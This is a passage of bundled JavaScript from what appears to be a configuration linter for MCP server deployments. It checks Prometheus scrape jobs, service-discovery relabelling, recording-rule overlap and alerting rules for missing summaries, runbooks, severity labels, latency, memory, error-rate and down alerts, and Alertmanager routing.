        if (!(0, _rules_1.isRecord)(f) || f.name !== 'label' || !Array.isArray(f.values))
            continue;
        for (const v of f.values) {
            if (typeof v !== 'string')
                continue;
            const at = v.indexOf('=');
            const key = at >= 0 ? v.slice(0, at) : v;
            if (!(key in labels))
                return false;
            if (at >= 0 && labels[key] !== v.slice(at + 1))
                return false;
        }
    }
    return true;
}
/** The label filters of a Docker SD config, for messages. */
function dockerFilterLabels(sd) {
    if (!Array.isArray(sd.filters))
        return [];
    return sd.filters.flatMap((f) => (0, _rules_1.isRecord)(f) && f.name === 'label' && Array.isArray(f.values) ? f.values.filter((v) => typeof v === 'string') : []);
}
/** Meta labels of a container as Docker SD (and Docker Swarm SD) exposes them. */
function dockerMetaResolver(labels, containerName) {
    const sanitized = new Map(Object.entries(labels).map(([k, v]) => [sanitizeLabelName(k), v]));
    return (name) => {
        for (const prefix of ['__meta_docker_container_label_', '__meta_dockerswarm_container_label_', '__meta_dockerswarm_service_label_']) {
            if (name.startsWith(prefix))
                return sanitized.get(name.slice(prefix.length)) ?? '';
        }
        if (name === '__meta_docker_container_name')
            return containerName ? `/${containerName}` : undefined;
        return undefined;
    };
}
/** Meta labels of a pod (and, for the endpoints/service roles, of the Service in front of it) as Kubernetes SD exposes them. */
function kubernetesMetaResolver(pod) {
    const maps = [
        ['__meta_kubernetes_pod_label', pod.labels],
        ['__meta_kubernetes_pod_annotation', pod.annotations],
        ['__meta_kubernetes_service_label', pod.service?.labels],
        ['__meta_kubernetes_service_annotation', pod.service?.annotations],
    ];
    const sanitized = maps.map(([prefix, m]) => [prefix, m ? new Map(Object.entries(m).map(([k, v]) => [sanitizeLabelName(k), v])) : undefined]);
    return (name) => {
        if (name === '__meta_kubernetes_namespace')
            return pod.namespace;
        if (name === '__meta_kubernetes_service_name')
            return pod.service?.name;
        for (const [prefix, m] of sanitized) {
            if (name.startsWith(`${prefix}present_`))
                return m ? (m.has(name.slice(prefix.length + 8)) ? 'true' : '') : undefined;
            if (name.startsWith(`${prefix}_`))
                return m ? (m.get(name.slice(prefix.length + 1)) ?? '') : undefined;
        }
        return undefined;
    };
}
function anchored(source) {
    try {
        return new RegExp(`^(?:${source})$`, 's');
    }
    catch {
        return undefined;
    }
}


/***/ }),

/***/ 54790:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isRecord = void 0;
exports.ruleGroups = ruleGroups;
exports.rulesOf = rulesOf;
exports.allRules = allRules;
exports.alertingRules = alertingRules;
/** Walks the groups and rules of a Prometheus rule file (or a PrometheusRule spec), tolerating odd shapes. */
const yaml_tree_1 = __webpack_require__(43183);
const is_record_1 = __webpack_require__(32789);
function ruleGroups(root) {
    const groups = (0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(root, ['groups']));
    if (!Array.isArray(groups))
        return [];
    const out = [];
    groups.forEach((g, index) => {
        if ((0, is_record_1.isRecord)(g))
            out.push({ index, path: ['groups', index], name: g.name, value: g });
    });
    return out;
}
function rulesOf(group) {
    const rules = group.value.rules;
    if (!Array.isArray(rules))
        return [];
    const out = [];
    rules.forEach((rule, index) => {
        if (!(0, is_record_1.isRecord)(rule))
            return;
        const kind = typeof rule.alert === 'string' ? 'alert' : typeof rule.record === 'string' ? 'record' : undefined;
        out.push({ group, index, path: [...group.path, 'rules', index], rule, kind, name: kind ? rule[kind] : undefined });
    });
    return out;
}
function allRules(root) {
    return ruleGroups(root).flatMap(rulesOf);
}
function alertingRules(root) {
    return allRules(root).filter((r) => r.kind === 'alert');
}
var is_record_2 = __webpack_require__(32789);
Object.defineProperty(exports, "isRecord", ({ enumerable: true, get: function () { return is_record_2.isRecord; } }));


/***/ }),

/***/ 35832:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.scrapeJobsOf = scrapeJobsOf;
exports.scrapersOf = scrapersOf;
const list_services_1 = __webpack_require__(63251);
const label_selector_1 = __webpack_require__(83758);
const pod_template_index_1 = __webpack_require__(93447);
const objects_1 = __webpack_require__(35704);
const yaml_tree_1 = __webpack_require__(43183);
const _relabel_1 = __webpack_require__(6896);
const _rules_1 = __webpack_require__(54790);
function scrapeJobsOf(configs) {
    const out = [];
    for (const doc of configs) {
        const list = (0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(doc.root, ['scrape_configs']));
        if (!Array.isArray(list))
            continue;
        list.forEach((c, i) => {
            if ((0, _rules_1.isRecord)(c))
                out.push({ file: doc.file, name: typeof c.job_name === 'string' ? c.job_name : `#${i + 1}`, config: c });
        });
    }
    return out;
}
function scrapersOf(service, jobs, kubernetes) {
    const out = [];
    const isPrometheus = service.images.some((i) => (0, list_services_1.imageRepository)(i).endsWith('prometheus'));
    for (const job of jobs) {
        const target = staticTargets(job.config).find(({ host }) => {
            if (isPrometheus && (host === 'localhost' || host === '127.0.0.1'))
                return true;
            return (0, list_services_1.hostReaches)(host, service);
        });
        if (target) {
            out.push({ job: job.name, how: `static target ${target.text} of job "${job.name}"` });
            continue;
        }
        if (service.platform === 'compose' && acceptsContainer(job.config, service))
            out.push({ job: job.name, how: `Docker service discovery of job "${job.name}"` });
        if (service.platform === 'kubernetes' && service.object && acceptsPod(job.config, service.object, kubernetes))
            out.push({ job: job.name, how: `Kubernetes service discovery of job "${job.name}"` });
    }
    if (service.platform === 'kubernetes' && service.object)
        out.push(...monitorsOf(service.object, kubernetes));
    return out;
}
function staticTargets(config) {
    const out = [];
    if (!Array.isArray(config.static_configs))
        return out;
    for (const sc of config.static_configs) {
        if (!(0, _rules_1.isRecord)(sc) || !Array.isArray(sc.targets))
            continue;
        for (const t of sc.targets) {
            if (typeof t !== 'string')
                continue;
            const m = /^(?:\w+:\/\/)?(\[[^\]]+\]|[^:/]+)/.exec(t.trim());
            if (m)
                out.push({ host: m[1].toLowerCase(), text: t });
        }
    }
    return out;
}
function acceptsContainer(config, service) {
    const sds = [config.docker_sd_configs, config.dockerswarm_sd_configs].flatMap((v) => (Array.isArray(v) ? v.filter(_rules_1.isRecord) : []));
    if (!sds.length)
        return false;
    const labels = { ...service.labels, 'com.docker.compose.service': service.name };
    if (!sds.some((sd) => (0, _relabel_1.passesDockerFilters)(sd, labels)))
        return false;
    const containerName = typeof service.value.container_name === 'string' ? service.value.container_name : undefined;
    return (0, _relabel_1.survivesRelabel)(config.relabel_configs, (0, _relabel_1.dockerMetaResolver)(labels, containerName));
}
function podMeta(obj) {
    const tpl = (0, objects_1.podTemplatePath)(obj);
    const template = tpl ? ((0, yaml_tree_1.getNode)(obj.root, [...tpl, 'metadata', 'annotations']) ?? undefined) : undefined;
    return { labels: (0, objects_1.podLabelsOf)(obj), annotations: (0, objects_1.asStringMap)((0, yaml_tree_1.toPlain)(template)) };
}
function acceptsPod(config, obj, kubernetes) {
    const sds = Array.isArray(config.kubernetes_sd_configs) ? config.kubernetes_sd_configs.filter(_rules_1.isRecord) : [];
    const pod = { namespace: obj.namespace, ...podMeta(obj) };
    return sds.some((sd) => {
        const names = (0, _rules_1.isRecord)(sd.namespaces) && Array.isArray(sd.namespaces.names) ? sd.namespaces.names.map(String) : [];
        if (names.length && obj.namespace && !names.includes(obj.namespace))
            return false;
        const role = String(sd.role ?? '').toLowerCase();
        if (role === 'pod')
            return (0, _relabel_1.survivesRelabel)(config.relabel_configs, (0, _relabel_1.kubernetesMetaResolver)(pod));
        if (role !== 'endpoints' && role !== 'endpointslice' && role !== 'service')
            return false;
        return (0, pod_template_index_1.servicesSelecting)(obj, (0, objects_1.podLabelsOf)(obj), kubernetes).some((svc) => (0, _relabel_1.survivesRelabel)(config.relabel_configs, (0, _relabel_1.kubernetesMetaResolver)({
            ...pod,
            service: { name: svc.name, labels: (0, objects_1.asStringMap)(svc.value.metadata?.labels), annotations: (0, objects_1.asStringMap)(svc.value.metadata?.annotations) },
        })));
    });
}
/** Whether a monitor in `monitor`'s namespace with this namespaceSelector watches namespace `ns`. */
function watchesNamespace(monitor, ns) {
    const sel = monitor.value.spec?.namespaceSelector;
    if ((0, _rules_1.isRecord)(sel) && sel.any === true)
        return true;
    if ((0, _rules_1.isRecord)(sel) && Array.isArray(sel.matchNames) && sel.matchNames.length)
        return !ns || sel.matchNames.map(String).includes(ns);
    return !monitor.namespace || !ns || monitor.namespace === ns;
}
function monitorsOf(obj, kubernetes) {
    const out = [];
    const labels = (0, objects_1.podLabelsOf)(obj);
    const services = (0, pod_template_index_1.servicesSelecting)(obj, labels, kubernetes);
    for (const m of (0, pod_template_index_1.monitorsIn)(kubernetes)) {
        if (m.kind === 'PodMonitor' && watchesNamespace(m, obj.namespace) && (0, label_selector_1.matchesLabelSelector)(m.value.spec?.selector, labels)) {
            out.push({ job: `${m.namespace ?? obj.namespace ?? 'default'}/${m.name}`, how: `PodMonitor ${m.name}` });
        }
        if (m.kind !== 'ServiceMonitor')
            continue;
        for (const svc of services) {
            if (!watchesNamespace(m, svc.namespace) || !(0, label_selector_1.matchesLabelSelector)(m.value.spec?.selector, (0, objects_1.asStringMap)(svc.value.metadata?.labels)))
                continue;
            const jobLabel = typeof m.value.spec?.jobLabel === 'string' ? (0, objects_1.asStringMap)(svc.value.metadata?.labels)[m.value.spec.jobLabel] : undefined;
            out.push({ job: jobLabel ?? svc.name, how: `ServiceMonitor ${m.name} (Service ${svc.name})` });
        }
    }
    return out;
}


/***/ }),

/***/ 7770:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.seriesOverlap = seriesOverlap;
/**
 * Whether two recording rules can write the same series. Rules with the same `record` name and the
 * same static labels still write different series when some label is kept in both outputs and the
 * matchers on it cannot hold together: `sum by (code) (rate(x{code=~"2.."}[5m]))` and the same with
 * `code=~"3.."` (kube-prometheus' apiserver availability rules do this). The answer is "disjoint"
 * only when the expressions prove it; expressions this model does not follow give "unknown".
 */
const _promql_ast_1 = __webpack_require__(20419);
const _label_matchers_1 = __webpack_require__(20947);
const ABSENT = (label) => [[{ label, op: '=', value: '' }]];
/** Aggregations that select series and keep their labels (the grouping only partitions them). */
const SELECTING = new Set(['topk', 'bottomk', 'limitk', 'limit_ratio']);
/** Functions whose result has no labels, or labels they make up. */
const NO_LABELS = new Set(['vector', 'time', 'scalar', 'pi', 'minute', 'hour', 'day_of_month', 'day_of_week', 'day_of_year', 'days_in_month', 'month', 'year']);
const MADE_UP_LABELS = new Set(['absent', 'absent_over_time', 'info', 'label_join', 'label_replace']);
function isScalar(node) {
    if (node.type === 'number' || node.type === 'string')
        return true;
    if (node.type === 'call')
        return node.fn === 'scalar' || node.fn === 'time' || node.fn === 'pi';
    if (node.type === 'binary')
        return isScalar(node.left) && isScalar(node.right);
    return false;
}
/** The values label `label` can have in the series `node` returns. */
function valuesOf(node, label) {
    switch (node.type) {
        case 'number':
        case 'string':
            return ABSENT(label);
        case 'selector': {
            const own = node.matchers.filter((m) => m.label === label);
            return [own];
        }
        case 'aggregation': {
            const vector = node.args[node.args.length - 1];
            if (!vector || node.op === 'count_values')
                return undefined;
            if (SELECTING.has(node.op))
                return valuesOf(vector, label);
            const g = node.grouping;
            const kept = g ? (g.without ? !g.labels.includes(label) : g.labels.includes(label)) : false;
            return kept ? valuesOf(vector, label) : ABSENT(label);
        }
        case 'call': {
            if (NO_LABELS.has(node.fn))
                return ABSENT(label);
            if (MADE_UP_LABELS.has(node.fn)) {
                // label_replace/label_join only write their destination label.
                const dst = node.args[1];
                if ((node.fn === 'label_replace' || node.fn === 'label_join') && dst?.type === 'string' && dst.value !== label)
                    return valuesOf(node.args[0], label);
                return undefined;
            }
            if (node.fn === 'histogram_quantile' && label === 'le')
                return ABSENT(label);
            const vectors = node.args.filter((a) => !isScalar(a));
            return vectors.length === 1 ? valuesOf(vectors[0], label) : vectors.length === 0 ? ABSENT(label) : undefined;
        }
        case 'binary': {
            if (isScalar(node.left))
                return isScalar(node.right) ? ABSENT(label) : valuesOf(node.right, label);
            if (isScalar(node.right))
                return valuesOf(node.left, label);
            if (node.op === 'or') {
                const left = valuesOf(node.left, label);
                const right = valuesOf(node.right, label);
                return left && right ? [...left, ...right] : undefined;
            }
            if (node.op === 'and' || node.op === 'unless')
                return valuesOf(node.left, label);
            if (node.group)
                return undefined;
            // One-to-one matching keeps the left side's labels, only the `on` ones with on(), all but the ignored ones with ignoring().
            const m = node.matching;
            if (m && m.on !== m.labels.includes(label))
                return ABSENT(label);
            return valuesOf(node.left, label);
        }
    }
}
function labelsIn(node, out) {
    if (node.type === 'selector')
        node.matchers.forEach((m) => out.add(m.label));
    if (node.type === 'aggregation')
        node.grouping?.labels.forEach((l) => out.add(l));
    if (node.type === 'aggregation' || node.type === 'call')
        node.args.forEach((a) => labelsIn(a, out));
    if (node.type === 'binary') {
        labelsIn(node.left, out);
        labelsIn(node.right, out);
    }
    return out;
}
/** No value satisfies both conjunctions (judged pair by pair, which may miss some, never invents). */
function conjunctionsExclude(a, b) {
    const all = [...a, ...b];
    return all.some((x, i) => all.slice(i + 1).some((y) => (0, _label_matchers_1.areExclusive)(x, y)));
}
/**
 * Whether two recording-rule expressions can produce a series with the same labels. `staticLabels`
 * are the rules' own `labels:` (the same for both), which overwrite whatever the expressions give.
 */
function seriesOverlap(exprA, exprB, staticLabels) {
    let a;
    let b;
    try {
        a = (0, _promql_ast_1.parsePromql)(exprA);
        b = (0, _promql_ast_1.parsePromql)(exprB);
    }
    catch (e) {
        if (e instanceof _promql_ast_1.PromqlSyntaxError)
            return { verdict: 'unknown', reason: e.message };
        throw e;
    }
    const labels = labelsIn(b, labelsIn(a, new Set()));
    let unknown;
    for (const label of [...labels].sort()) {
        if (label === '__name__' || staticLabels.includes(label))
            continue;
        const va = valuesOf(a, label);
        const vb = valuesOf(b, label);
        if (!va || !vb) {
            unknown ??= `cannot follow label ${label} through the expression`;
            continue;
        }
        if (va.every((x) => vb.every((y) => conjunctionsExclude(x, y))))
            return { verdict: 'disjoint', label };
    }
    return unknown ? { verdict: 'unknown', reason: unknown } : { verdict: 'overlap' };
}


/***/ }),

/***/ 79033:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _rules_1 = __webpack_require__(54790);
const present = (v) => (typeof v === 'string' ? v.trim() !== '' : v !== undefined && v !== null);
/** An alert on a missing series (`absent(...)`, `absent_over_time(...)`, alone or with `or`/`unless`): there is no instance to describe. */
function isAbsentAlert(expr) {
    return typeof expr === 'string' && /^\s*\(?\s*absent(_over_time)?\s*\(/.test(expr);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-annotations',
    target: 'prometheus-rules',
    meta: {
        title: 'Alert lacks a summary or description',
        category: 'observability',
        severity: 'warning',
        rationale: 'The page is all on-call sees at 3am: without a `summary` the notification shows only the alert name, and without a `description` it says nothing about which instance, how bad, or what to look at first. kube-prometheus mixins and the Prometheus Operator runbooks require both. A description is not asked where the summary already names the instance or the value (`{{ $labels.instance }}`, `{{ $value }}`), nor of an absent() alert, which has no instance to describe.',
        remediation: 'Add `annotations: { summary: "MCP server {{ $labels.instance }} is down", description: "{{ $labels.job }} has been unreachable for 5 minutes; ..." }` to the alerting rule.',
        messages: {
            noSummary: 'alert "{{alert}}" has no summary annotation',
            noDescription: 'alert "{{alert}}" has no description annotation',
        },
    },
    check(ctx) {
        for (const r of (0, _rules_1.alertingRules)(ctx.root)) {
            const annotations = (0, _rules_1.isRecord)(r.rule.annotations) ? r.rule.annotations : {};
            const at = (0, _rules_1.isRecord)(r.rule.annotations) ? [...r.path, 'annotations'] : [...r.path, 'alert'];
            if (!present(annotations.summary))
                ctx.report({ messageId: 'noSummary', data: { alert: r.name }, at });
            // `message` is the older single-annotation convention (kube-prometheus before 0.7). A summary
            // that names the instance or the value (a template) already says what a description would, and
            // an absent() alert has no instance to name.
            if (present(annotations.description) || present(annotations.message))
                continue;
            const summaryNamesIt = typeof annotations.summary === 'string' && /\{\{[^}]*\$(labels|value)/.test(annotations.summary);
            if (summaryNamesIt || isAbsentAlert(r.rule.expr))
                continue;
            ctx.report({ messageId: 'noDescription', data: { alert: r.name }, at });
        }
    },
});


/***/ }),

/***/ 15992:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _alert_coverage_1 = __webpack_require__(67926);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-error-rate',
    target: 'repository',
    meta: {
        title: 'No alert on the error rate',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'An MCP server can be up and answer health checks while every tool call fails (an expired GitHub token, a database it cannot reach). Only an alert on the share of failed requests (5xx, `status="error"`) catches that; the up alert never fires. Error-rate alerting is one of the four golden signals of the Google SRE book.',
        remediation: 'Record the error ratio, e.g. `sum by (mcp_server) (rate(mcp_requests_total{status="error"}[5m])) / sum by (mcp_server) (rate(mcp_requests_total[5m]))`, and alert when it stays above a threshold (e.g. `> 0.05` for 10m).',
        messages: {
            missing: 'no alerting rule watches an error rate (rate/increase of 5xx, status=~"5..", or an error/failure metric); expected {{where}}',
        },
    },
    check(ctx) {
        const status = (0, _alert_coverage_1.alertKindStatus)(ctx, 'error-rate');
        if (!status.applicable)
            return ctx.notApplicable();
        if (!status.covered)
            ctx.report({ messageId: 'missing', data: { where: (0, _alert_coverage_1.rulesWhere)(ctx) }, at: status.at });
    },
});


/***/ }),

/***/ 51585:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _alert_coverage_1 = __webpack_require__(67926);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-latency',
    target: 'repository',
    meta: {
        title: 'No alert on latency',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'LLM clients time out tool calls (LiteLLM after its request_timeout); a server that slowly degrades, e.g. a headless browser leaking sessions, turns into failed calls long before it is down. A latency alert (a p95 from a histogram) warns while there is still time to act, and is one of the four golden signals.',
        remediation: 'Expose a request duration histogram and alert on its p95, e.g. `histogram_quantile(0.95, sum by (le, mcp_server) (rate(mcp_request_duration_seconds_bucket[5m]))) > 2` for 10m.',
        messages: {
            missing: 'no alerting rule watches latency (histogram_quantile or a *_duration_*/*_latency_* metric); expected {{where}}',
        },
    },
    check(ctx) {
        const status = (0, _alert_coverage_1.alertKindStatus)(ctx, 'latency');
        if (!status.applicable)
            return ctx.notApplicable();
        if (!status.covered)
            ctx.report({ messageId: 'missing', data: { where: (0, _alert_coverage_1.rulesWhere)(ctx) }, at: status.at });
    },
});


/***/ }),

/***/ 29716:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _alert_coverage_1 = __webpack_require__(67926);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-memory',
    target: 'repository',
    meta: {
        title: 'No alert on memory use',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A container that reaches its memory limit is OOM-killed and restarted, dropping every open MCP session; one without a limit takes the host down with it. Memory grows for hours before that happens (browser automation, caches), so an alert on usage against the limit is the cheapest early warning, and the roadmap lists memory thresholds among the required alerts.',
        remediation: 'Alert on working set against the limit, e.g. `container_memory_working_set_bytes{name=~"mcp-.*"} / container_spec_memory_limit_bytes > 0.9` (cAdvisor) or `process_resident_memory_bytes`, or on OOM kills (`kube_pod_container_status_last_terminated_reason{reason="OOMKilled"}`).',
        messages: {
            missing: 'no alerting rule watches memory (container_memory_*, process_resident_memory_bytes, node_memory_*, memory limits or OOM kills); expected {{where}}',
        },
    },
    check(ctx) {
        const status = (0, _alert_coverage_1.alertKindStatus)(ctx, 'memory');
        if (!status.applicable)
            return ctx.notApplicable();
        if (!status.covered)
            ctx.report({ messageId: 'missing', data: { where: (0, _alert_coverage_1.rulesWhere)(ctx) }, at: status.at });
    },
});


/***/ }),

/***/ 24069:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-missing-for',
    target: 'prometheus-rules',
    meta: {
        title: 'Alert fires without a "for" duration',
        category: 'observability',
        severity: 'warning',
        rationale: 'An alert without `for` pages on a single bad scrape; on-call learns to ignore it.',
        remediation: 'Add `for: 5m` (or a duration that fits the signal) to the alerting rule.',
        messages: { missingFor: 'alert "{{alert}}" has no "for" duration and fires on the first failing evaluation' },
    },
    check(ctx) {
        const groups = (0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(ctx.root, ['groups']));
        if (!Array.isArray(groups))
            return;
        groups.forEach((g, gi) => {
            const rules = g && typeof g === 'object' ? g.rules : undefined;
            if (!Array.isArray(rules))
                return;
            rules.forEach((r, ri) => {
                if (!r || typeof r !== 'object')
                    return;
                const rule = r;
                if (typeof rule.alert !== 'string' || rule.for !== undefined)
                    return;
                ctx.report({ messageId: 'missingFor', data: { alert: rule.alert }, at: ['groups', gi, 'rules', ri, 'alert'] });
            });
        });
    },
});


/***/ }),

/***/ 15443:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _rules_1 = __webpack_require__(54790);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-runbook-url',
    target: 'prometheus-rules',
    meta: {
        title: 'Alert has no runbook_url',
        category: 'operations',
        severity: 'info',
        rationale: 'A runbook link turns a page into a procedure: whoever is on call, including someone new to the MCP stack, knows the first diagnostic and the safe mitigation. The kube-prometheus mixins attach `runbook_url` to every alert.',
        remediation: 'Add `annotations: { runbook_url: "https://runbooks.example.com/mcp/McpDown" }` pointing at a page with diagnosis and mitigation steps.',
        messages: { noRunbook: 'alert "{{alert}}" has no runbook_url annotation' },
    },
    check(ctx) {
        for (const r of (0, _rules_1.alertingRules)(ctx.root)) {
            const annotations = (0, _rules_1.isRecord)(r.rule.annotations) ? r.rule.annotations : undefined;
            const url = annotations?.runbook_url ?? annotations?.runbook;
            if (typeof url === 'string' && url.trim() !== '')
                continue;
            ctx.report({ messageId: 'noRunbook', data: { alert: r.name }, at: annotations ? [...r.path, 'annotations'] : [...r.path, 'alert'] });
        }
    },
});


/***/ }),

/***/ 92969:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _alert_coverage_1 = __webpack_require__(67926);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-service-down',
    target: 'repository',
    meta: {
        title: 'No alert fires when a service is down',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'Scraping a server is not monitoring it: without a rule on `up == 0` (or `absent(up{...})` for targets that vanish from discovery) a crashed MCP server stays down until a user notices that a tool disappeared from the gateway. It is the first alert the MCP deployment roadmap lists, and the one kube-prometheus ships as TargetDown.',
        remediation: 'Add an alerting rule such as `alert: MCPServerDown` with `expr: up{job="mcp"} == 0` and `for: 2m`, a severity label and a runbook_url; for targets that come from service discovery add `absent(up{job="mcp"})` too.',
        messages: {
            missing: 'no alerting rule detects a down service (`up == 0`, `up < 1`, `absent(up)`, `absent_over_time(...)`); expected {{where}}',
        },
    },
    check(ctx) {
        const status = (0, _alert_coverage_1.alertKindStatus)(ctx, 'down');
        if (!status.applicable)
            return ctx.notApplicable();
        if (!status.covered)
            ctx.report({ messageId: 'missing', data: { where: (0, _alert_coverage_1.rulesWhere)(ctx) }, at: status.at });
    },
});


/***/ }),

/***/ 69575:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.DEFAULT_SEVERITIES = void 0;
const zod_1 = __webpack_require__(50924);
const types_1 = __webpack_require__(15200);
const _rules_1 = __webpack_require__(54790);
exports.DEFAULT_SEVERITIES = ['critical', 'error', 'warning', 'info', 'page', 'ticket', 'high', 'medium', 'low', 'none'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alert-severity-label',
    target: 'prometheus-rules',
    meta: {
        title: 'Alert has no usable severity label',
        category: 'observability',
        severity: 'warning',
        rationale: 'Alertmanager routes on labels: an alert without `severity`, or with a value no route matches (`Critical`, `sev1`), falls through to the default receiver, so a production outage can land in a channel nobody watches or never page at all. The kube-prometheus and Prometheus Operator mixins use critical/warning/info.',
        remediation: "Add `labels: { severity: critical }` (or warning/info) to every alerting rule, using the values your Alertmanager routes match; list extra values in this check's `allowed` option.",
        messages: {
            missing: 'alert "{{alert}}" has no severity label, so Alertmanager cannot route it by urgency',
            unknown: 'alert "{{alert}}" has severity "{{severity}}", which is not one of {{allowed}}',
        },
    },
    options: zod_1.z
        .strictObject({
        allowed: zod_1.z.array(zod_1.z.string()).default(exports.DEFAULT_SEVERITIES).describe('Severity values your Alertmanager routes understand.'),
    })
        .default({ allowed: exports.DEFAULT_SEVERITIES }),
    check(ctx) {
        const allowed = ctx.options.allowed;
        for (const r of (0, _rules_1.alertingRules)(ctx.root)) {
            const labels = (0, _rules_1.isRecord)(r.rule.labels) ? r.rule.labels : undefined;
            const severity = labels?.severity;
            if (severity === undefined || severity === null || severity === '') {
                ctx.report({ messageId: 'missing', data: { alert: r.name }, at: labels ? [...r.path, 'labels'] : [...r.path, 'alert'] });
                continue;
            }
            const value = String(severity);
            // Templated severities ({{ $labels.severity }}) are resolved at evaluation time.
            if (value.includes('{{') || allowed.includes(value))
                continue;
            ctx.report({ messageId: 'unknown', data: { alert: r.name, severity: value, allowed: allowed.join(', ') }, at: [...r.path, 'labels', 'severity'] });
        }
    },
});


/***/ }),

/***/ 68244:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _alert_coverage_1 = __webpack_require__(67926);
const _rules_1 = __webpack_require__(54790);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/alertmanager-configured',
    target: 'repository',
    meta: {
        title: 'Alerts are not routed to anyone',
        category: 'observability',
        severity: 'warning',
        rationale: 'Prometheus evaluates alert rules whether or not anyone receives them: without `alerting.alertmanagers` the alerts only show on the Prometheus UI, and an Alertmanager whose route ends in a receiver without any *_configs (a "null" receiver) swallows them. Either way the MCP server-down alert fires into the void.',
        remediation: 'Point Prometheus at Alertmanager (`alerting: { alertmanagers: [{ static_configs: [{ targets: ["alertmanager:9093"] }] }] }`) and commit an alertmanager.yml whose route leads to a receiver with slack_configs, pagerduty_configs, email_configs or webhook_configs (credentials from *_file settings).',
        messages: {
            notSent: 'Prometheus config {{file}} has alert rules to evaluate but no alerting.alertmanagers: alerts are never sent',
            noAlertmanagerConfig: 'alert rules exist but the repository has no Alertmanager configuration (a file with route and receivers, or an AlertmanagerConfig resource)',
            nullReceivers: 'Alertmanager config {{file}} routes alerts only to receivers without notification configs ({{receivers}}): alerts are dropped',
        },
    },
    check(ctx) {
        if (!(0, _alert_coverage_1.alertRules)(ctx.prometheusRules).length)
            return ctx.notApplicable();
        const firstRules = ctx.prometheusRules[0];
        const rulesLoc = (0, yaml_tree_1.locate)(firstRules.root, ['groups'], firstRules.root.keyLoc ?? firstRules.root.loc);
        const configs = ctx.prometheusConfigs;
        const prometheusResources = ctx.kubernetes.filter((o) => o.kind === 'Prometheus');
        const sends = configs.some((c) => nonEmpty((0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(c.root, ['alerting', 'alertmanagers'])))) ||
            prometheusResources.some((o) => nonEmpty(o.value.spec?.alerting?.alertmanagers));
        // Rules only as PrometheusRule resources, and no Prometheus config or resource here: the operator's Prometheus (kube-prometheus-stack) sends them.
        const operatorManaged = !configs.length && !prometheusResources.length && ctx.prometheusRules.every((d) => d.basePath[0] === 'spec');
        if (!sends && !operatorManaged) {
            const c = configs[0];
            if (c)
                ctx.report({ messageId: 'notSent', data: { file: c.file }, at: (0, yaml_tree_1.locate)(c.root, ['alerting', 'alertmanagers'], c.root.loc) });
            else {
                const o = prometheusResources[0];
                ctx.report({
                    messageId: 'notSent',
                    data: { file: o ? `${o.file} (Prometheus ${o.name})` : firstRules.file },
                    at: o ? (0, yaml_tree_1.locate)(o.root, ['spec', 'alerting'], o.loc) : rulesLoc,
                });
            }
        }
        const alertmanagers = findAlertmanagerConfigs(ctx);
        if (!alertmanagers.length) {
            ctx.report({ messageId: 'noAlertmanagerConfig', at: configs[0] ? (0, yaml_tree_1.locate)(configs[0].root, ['alerting'], configs[0].root.loc) : rulesLoc });
            return;
        }
        if (alertmanagers.some(routesToRealReceiver))
            return;
        const am = alertmanagers[0];
        const names = Array.isArray(am.receivers) ? am.receivers.map((r) => ((0, _rules_1.isRecord)(r) && typeof r.name === 'string' ? r.name : '?')) : [];
        ctx.report({ messageId: 'nullReceivers', data: { file: am.file, receivers: names.join(', ') || 'none defined' }, at: am.loc });
    },
});
function nonEmpty(v) {
    return Array.isArray(v) && v.length > 0;
}
function findAlertmanagerConfigs(ctx) {
    const out = [];
    const add = (file, holder, fallback) => {
        const v = (0, yaml_tree_1.toPlain)(holder);
        if (!(0, _rules_1.isRecord)(v) || !('receivers' in v) || !('route' in v))
            return;
        out.push({ file, route: v.route, receivers: v.receivers, loc: (0, yaml_tree_1.locate)(holder, ['receivers'], fallback) });
    };
    for (const obj of ctx.kubernetes) {
